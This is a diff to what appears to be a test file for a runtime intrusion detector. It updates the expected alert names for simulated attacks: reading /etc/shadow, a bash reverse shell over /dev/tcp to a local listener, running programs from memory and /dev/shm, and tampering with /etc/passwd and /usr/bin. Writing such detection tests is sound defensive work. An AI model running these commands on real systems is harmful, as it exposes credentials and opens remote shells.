@@ -67,33 +67,33 @@ function programInUsrBin(use: (program: string) => void): void {
 export const attacks: readonly Act[] = [
   {
     name: "cat reads /etc/shadow",
-    rule: "Sensitive file read",
+    rule: "Secret file read by an unexpected program",
     perform: () => run("cat", "/etc/shadow"),
   },
   {
     name: "a shell with its input and output on a TCP connection",
-    rule: "Shell on a network connection",
+    rule: "Shell with its input and output on a network connection",
     perform: () => bashTowardsListener("bash -i >& /dev/tcp/127.0.0.1/PORT 0>&1"),
   },
   {
     name: "a program runs from memory",
-    rule: "Program run from memory",
+    rule: "Program executed from memory",
     perform: () => memoryFile('os.execve(f"/proc/self/fd/{fd}", ["true"], {})'),
   },
   {
     name: "a program runs from /dev/shm",
-    rule: "Program run from shared memory",
+    rule: "Program executed from shared memory",
     perform: () => inFolderBelow("/dev/shm", (program) => run(program)),
   },
   {
     name: "/etc/passwd is opened for writing",
-    rule: "Account file written",
+    rule: "Account file written by an unexpected program",
     // Opened for appending and closed again: nothing is written.
     perform: () => run("sh", "-c", ": >> /etc/passwd"),
   },
   {
     name: "a file of /usr/bin is overwritten",
-    rule: "System program overwritten",
+    rule: "System program written by an unexpected program",
     perform: () => programInUsrBin((program) => run("cp", "/bin/true", program)),
   },
 ];
